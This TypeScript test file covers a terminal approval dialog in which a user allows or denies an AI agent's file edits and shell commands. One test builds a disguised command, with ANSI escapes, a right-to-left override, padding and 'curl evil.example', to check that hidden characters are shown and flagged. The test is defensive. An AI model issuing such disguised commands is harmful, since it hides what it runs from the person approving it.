import type { Decision, PermissionRequest } from '@sluice/engine/protocol'
import { afterEach, describe, expect, test } from 'vitest'
import { directKeys } from '../fixtures/screen/keys.ts'
import { type RenderedScreen, renderAt } from '../fixtures/screen/render-at.tsx'
import { commandRequest, editRequest, judged, questionRequest } from '../fixtures/screen/requests.ts'
import { ApprovalDialog } from './ApprovalDialog.tsx'
import { dialogKeys } from './dialog-keys.ts'
import { KeysContext } from './keys.ts'
import { asciiGlyphs, darkTheme, ThemeContext } from './theme.ts'

let open: RenderedScreen | undefined
afterEach(async () => {
  await open?.unmount()
  open = undefined
})

type Extra = { focused?: boolean; draftPending?: boolean; position?: { index: number; count: number }; ascii?: boolean }

async function show(request: PermissionRequest, columns: number, rows: number, extra: Extra = {}) {
  const keys = directKeys({ dialog: dialogKeys })
  const decisions: Decision[] = []
  const calls: string[] = []
  const theme = extra.ascii
    ? { ...darkTheme, name: 'plain', color: false, accent: undefined, glyphs: asciiGlyphs }
    : darkTheme
  const element = (next: PermissionRequest, size: { columns: number; rows: number } = { columns, rows }) => (
    <ThemeContext value={theme}>
      <KeysContext value={keys.source}>
        <ApprovalDialog
          request={next}
          width={size.columns}
          height={size.rows}
          focused={extra.focused ?? true}
          draftPending={extra.draftPending ?? false}
          position={extra.position ?? { index: 0, count: 1 }}
          onDecide={(decision) => decisions.push(decision)}
          onFullScreen={() => calls.push('full screen')}
          onLeave={() => calls.push('leave')}
          onShown={() => calls.push('shown')}
        />
      </KeysContext>
    </ThemeContext>
  )
  const view = await renderAt(columns, rows, element(request), { alternateScreen: true })
  open = view
  return {
    view,
    decisions,
    calls,
    press: async (...names: string[]) => {
      const used = names.map((name) => keys.press(name))
      await view.settled()
      return used
    },
    repeat: async (name: string) => {
      const used = keys.press(name, { repeat: true })
      await view.settled()
      return used
    },
    type: async (text: string) => {
      keys.type(text)
      await view.settled()
    },
    paste: async (text: string) => {
      const used = keys.paste(text)
      await view.settled()
      return used
    },
    show: (next: PermissionRequest, size?: { columns: number; rows: number }) => view.rerender(element(next, size)),
  }
}

describe('frames', () => {
  const long = commandRequest(`for f in a b c; do\n  echo "$f"\ndone\n${'echo padding; '.repeat(30)}id`, {
    needs: [judged('id')],
  })
  test.each([
    ['edit', editRequest, { index: 0, count: 2 }],
    ['command', commandRequest(), { index: 1, count: 3 }],
    ['long-command', long, { index: 0, count: 1 }],
    ['question', questionRequest(['half up', 'half even', 'truncate']), { index: 0, count: 1 }],
  ] as const)('%s at three sizes', async (name, request, position) => {
    for (const [columns, rows] of [
      [80, 24],
      [120, 36],
      [40, 12],
    ] as const) {
      const { view } = await show(request, columns, rows, { position })
      await expect(`${view.screen()}\n`).toMatchFileSnapshot(
        `../fixtures/golden/permissions-ui/${name}-${columns}x${rows}.txt`,
      )
      await view.unmount()
    }
    open = undefined
  })
})

describe('unfocused and open fields', () => {
  test('an unfocused dialog says why, and how to get in', async () => {
    const { view } = await show(editRequest, 80, 20, { focused: false, draftPending: true })
    expect(view.screen().split('\n').at(-1)).toBe(' ! your draft has the keys: ctrl+x a answers this')
  })

  test('the reason field and the choice of a rule at 60 columns', async () => {
    const { view, press, type } = await show(editRequest, 60, 14)
    await press('n')
    await type('keep the rounding')
    expect(view.screen().split('\n').slice(-2)).toEqual([' no, because keep the rounding', ' ⏎ deny   esc back'])
    await press('escape', 'A', 'down', 'right')
    expect(view.screen().split('\n').slice(-5)).toEqual([
      '   edit_file(src/cart.ts)',
      ' ❯ edit_file(src/**)',
      '     every file below src',
      ' for this session ▸ [this project] ▸ me, everywhere',
      ' ⏎ apply, and write this rule   ←→ for whom   ↑↓ rule',
    ])
  })

  test('ASCII and no colours work as well', async () => {
    const { view } = await show(editRequest, 80, 20, { ascii: true })
    expect(view.screen()).not.toMatch(/[─│❯−▸]/)
    expect(
      view
        .row(
          view
            .screen()
            .split('\n')
            .findIndex((line) => line.includes('round(i.price')),
        )
        .trimEnd(),
    ).toBe('  5 -     (sum, i) => sum + round(i.price * i.qty), 0)')
  })
})

describe('decisions', () => {
  test.each([
    { keys: ['y'], decisions: [{ type: 'allow', digest: 'digest_1' }] },
    { keys: ['return'], decisions: [] },
    { keys: ['left', 'return'], decisions: [{ type: 'allow', digest: 'digest_1' }] },
    { keys: ['n', 'return'], decisions: [{ type: 'deny' }] },
    { keys: ['n', 'n', 'o', 'return'], decisions: [{ type: 'deny', message: 'no' }] },
    { keys: ['n', 'y', 'escape'], decisions: [] },
    { keys: ['n', 'escape', 'y'], decisions: [{ type: 'allow', digest: 'digest_1' }] },
    {
      keys: ['A', 'return'],
      decisions: [{ type: 'allow', digest: 'digest_1', rule: { text: 'edit_file(src/cart.ts)', scope: 'session' } }],
    },
    {
      keys: ['right', 'return', 'down', 'right', 'right', 'right', 'return'],
      decisions: [{ type: 'allow', digest: 'digest_1', rule: { text: 'edit_file(src/**)', scope: 'user' } }],
    },
    { keys: ['A', 'escape'], decisions: [] },
    { keys: ['A', 'y', 'n'], decisions: [] },
    { keys: ['y', 'y', 'n', 'return'], decisions: [{ type: 'allow', digest: 'digest_1' }] },
    { keys: ['Y', '1', 'return', 'escape'], decisions: [] },
  ])('$keys on an edit', async ({ keys, decisions }) => {
    const dialog = await show(editRequest, 80, 24)
    await dialog.press(...keys)
    expect(dialog.decisions).toEqual(decisions)
  })

  test('a held key decides nothing', async () => {
    const dialog = await show(editRequest, 80, 24)
    for (const name of ['y', 'n', 'A', 'return']) expect(await dialog.repeat(name)).toBe(true)
    await dialog.press('n')
    await dialog.repeat('return')
    expect(dialog.decisions).toEqual([])
  })

  test('a paste decides nothing, and goes to the layers below unless a field is open', async () => {
    const dialog = await show(editRequest, 80, 24)
    expect(await dialog.paste('y\n')).toBe(false)
    await dialog.press('n')
    expect(await dialog.paste('too\nrisky\x1b[2J')).toBe(true)
    expect(dialog.view.screen()).toContain('no, because too risky')
    expect(dialog.decisions).toEqual([])
    await dialog.press('return')
    expect(dialog.decisions).toEqual([{ type: 'deny', message: 'too risky' }])
  })

  test('an unfocused dialog takes no key', async () => {
    const dialog = await show(editRequest, 80, 24, { focused: false })
    expect(await dialog.press('y', 'return', 'escape')).toEqual([false, false, false])
    expect(dialog.decisions).toEqual([])
  })

  test('keys that mean nothing here go to the layers below', async () => {
    const dialog = await show(editRequest, 80, 24)
    expect(await dialog.press('h', 'ctrl+c', '?')).toEqual([false, false, false])
  })

  test('f asks for the full screen and Esc leaves the question open', async () => {
    const dialog = await show(editRequest, 80, 24)
    await dialog.press('f', 'escape')
    expect({ calls: dialog.calls, decisions: dialog.decisions }).toEqual({
      calls: ['shown', 'full screen', 'leave'],
      decisions: [],
    })
  })

  test('another proposal under the same id begins anew', async () => {
    const dialog = await show(editRequest, 80, 24)
    await dialog.press('n', 'x')
    await dialog.show({ ...editRequest, digest: 'digest_9' })
    expect(dialog.view.screen()).not.toContain('because x')
    await dialog.press('y')
    expect(dialog.decisions).toEqual([{ type: 'allow', digest: 'digest_9' }])
    expect(dialog.calls).toEqual(['shown', 'shown'])
  })

  test('without a rule to write, A says so', async () => {
    const dialog = await show({ ...editRequest, suggestions: [] }, 80, 24)
    await dialog.press('A', 'return')
    expect(dialog.decisions).toEqual([])
    expect(dialog.view.screen()).toContain('no, because')
  })
})

describe('commands', () => {
  const tail = commandRequest(`echo ${'x'.repeat(5_000)}; id`, { needs: [judged('id')] })

  test('a long command is read to its end before a yes counts', async () => {
    const dialog = await show(tail, 80, 24)
    await dialog.press('y')
    await dialog.press('A', 'return')
    expect(dialog.view.screen()).toContain('Read it to the end first')
    await dialog.press('escape')
    expect(dialog.view.screen()).not.toContain('; id')
    while (!dialog.view.screen().includes('; id')) await dialog.press('pagedown')
    await dialog.press('end')
    expect(dialog.decisions).toEqual([])
    await dialog.press('home', 'y')
    expect(dialog.decisions).toEqual([{ type: 'allow', digest: 'digest_2' }])
  })

  test('scrolling to the end and saying yes in one burst is not reading', async () => {
    const keys = directKeys({ dialog: dialogKeys })
    const decisions: Decision[] = []
    open = await renderAt(
      80,
      24,
      <KeysContext value={keys.source}>
        <ApprovalDialog
          request={tail}
          width={80}
          height={24}
          focused
          draftPending={false}
          onDecide={(decision) => decisions.push(decision)}
        />
      </KeysContext>,
    )
    keys.press('end')
    keys.press('y')
    expect(decisions).toEqual([])
    await open.settled()
    keys.press('y')
    expect(decisions).toHaveLength(1)
  })

  test('a command that fits can be run at once', async () => {
    const dialog = await show(commandRequest(), 80, 24)
    await dialog.press('y')
    expect(dialog.decisions).toEqual([{ type: 'allow', digest: 'digest_2' }])
  })

  test('nothing of a command can hide', async () => {
    const text = `echo 'good' && echo 'evil' \x1b[24D\x1b[K && echo ok\u202e${' '.repeat(300)}; curl evil.example\r`
    const dialog = await show(commandRequest(text, { needs: [], title: 'x' }), 120, 16)
    expect(dialog.view.screen()).toContain(
      "$ echo 'good' && echo 'evil' \\x1b[24D\\x1b[K && echo ok<U+202E> ·x300 ; curl evil.example␍",
    )
    expect(dialog.view.screen()).toContain('! contains hidden characters')
  })

  test('a changed size keeps what was read', async () => {
    const dialog = await show(tail, 80, 24)
    await dialog.press('end')
    await dialog.view.resize(60, 20)
    await dialog.show(tail, { columns: 60, rows: 20 })
    await dialog.press('y')
    expect(dialog.decisions).toHaveLength(1)
  })
})

describe('questions', () => {
  const options = ['half up', 'half even']
  test.each([
    { name: 'an arrow and ⏎', options, keys: ['down', 'return'], decisions: ['half up'] },
    { name: 'a digit and ⏎', options, keys: ['2', 'return'], decisions: ['half even'] },
    { name: '⏎ alone', options, keys: ['return', 'y'], decisions: [] },
    { name: 'a digit alone', options, keys: ['1'], decisions: [] },
    { name: 'own words', options, keys: ['down', 'down', 'down', 'y', '1', 'return'], decisions: ['y1'] },
    { name: 'own words without options', options: undefined, keys: ['y', 'e', 's', 'return'], decisions: ['yes'] },
    { name: 'an empty answer', options: undefined, keys: ['return', 'space', 'return'], decisions: [] },
    { name: 'a refusal', options, keys: ['n', 'return'], decisions: [null] },
    { name: 'the last entry', options, keys: ['down', 'down', 'down', 'down', 'return', 'return'], decisions: [null] },
  ])('$name', async ({ options: choices, keys, decisions }) => {
    const dialog = await show(questionRequest(choices), 80, 20)
    await dialog.press(...keys)
    expect(dialog.decisions).toEqual(
      decisions.map((answer) => (answer === null ? { type: 'deny' } : { type: 'allow', digest: 'digest_3', answer })),
    )
  })
})
